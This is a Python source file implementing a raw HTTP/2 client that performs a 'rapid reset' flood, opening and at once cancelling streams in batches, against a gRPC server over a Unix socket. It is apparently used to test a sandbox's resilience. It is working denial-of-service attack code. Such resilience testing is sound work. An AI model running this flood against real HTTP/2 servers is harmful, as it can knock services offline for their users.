"""A raw HTTP/2 client (stdlib only) for attacks gRPC's own client will not make.

Used inside the sandbox by the attack protocol and on the host by unit tests.
Run as a script, ``python h2raw.py SOCKET TOKEN STREAMS`` makes a rapid reset
and prints its outcome as one JSON line.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import threading
import time
from dataclasses import asdict, dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 8


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def _literal(name: str, value: str, static_index: int = 0) -> bytes:
    """A header literal without indexing (HPACK), by static name index or by name."""
    v = value.encode()
    if static_index:
        return bytes([static_index]) + bytes([len(v)]) + v
    n = name.encode()
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def request_headers(path: str, token: str) -> bytes:
    """An HPACK block for a gRPC POST to ``path`` carrying ``token``; short strings only."""
    return (
        b"\x83\x86"  # :method POST, :scheme http
        + _literal(":path", path, 4)
        + _literal(":authority", "sandbox", 1)
        + _literal("content-type", "application/grpc")
        + _literal("te", "trailers")
        + _literal("x-sandbox-token", token)
    )


@dataclass
class ResetOutcome:
    """How a rapid reset went: streams sent, and whether the server ended the connection."""

    streams: int = 0
    seconds: float = 0.0
    goaway: bool = False
    closed: bool = False
    caught_up: bool = False
    error: str = ""


def rapid_reset(
    socket_path: str,
    token: str,
    streams: int,
    batch: int = 500,
    path: str = "/executor.v1.Sandbox/GetTask",
    wait_s: float = 60.0,
) -> ResetOutcome:
    """Open and at once cancel ``streams`` streams (HEADERS then RST_STREAM), in batches.

    Reads what the server sends (acknowledging its SETTINGS), stops early if
    the server ends the connection, and at the end waits for a PING's answer
    so that the server has read everything sent.

    Only this thread writes. The reader never waits on a write: if it did,
    it would stop reading while a large batch is being written, the server
    (whose replies then pile up unread) would stop reading in turn, and both
    ends would wait on each other for ever.
    """
    out = ResetOutcome()
    acks_due: list[int] = []  # SETTINGS frames the reader saw, for this thread to acknowledge
    pong = threading.Event()
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(socket_path)

    def send(data: bytes) -> None:
        while acks_due:
            acks_due.pop()
            data = frame(SETTINGS, ACK, 0) + data
        s.sendall(data)

    def read() -> None:
        buf = b""
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    break
                buf += data
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    kind, flags = buf[3], buf[4]
                    if kind == GOAWAY:
                        out.goaway = True
                    elif kind == SETTINGS and not flags & ACK:
                        acks_due.append(1)
                    elif kind == PING and flags & ACK:
                        pong.set()
                    buf = buf[9 + length :]
        except OSError:
            pass
        out.closed = True
        pong.set()

    reader = threading.Thread(target=read, daemon=True)
    send(PREFACE + frame(SETTINGS, 0, 0))
    reader.start()
    block = request_headers(path, token)
    cancel = struct.pack(">I", CANCEL)
    stream_id = 1
    started = time.monotonic()
    try:
        while out.streams < streams and not out.closed:
            chunk = bytearray()
            for _ in range(batch):
                chunk += frame(HEADERS, END_HEADERS, stream_id, block)
                chunk += frame(RST_STREAM, 0, stream_id, cancel)
                stream_id += 2
            send(bytes(chunk))
            out.streams += batch
        send(frame(PING, 0, 0, b"caughtup"))
    except OSError as exc:
        out.error = f"{type(exc).__name__}: {exc}"
    out.caught_up = pong.wait(wait_s) and not out.closed
    out.seconds = time.monotonic() - started
    s.close()
    return out


if __name__ == "__main__":
    print(json.dumps(asdict(rapid_reset(sys.argv[1], sys.argv[2], int(sys.argv[3])))), flush=True)
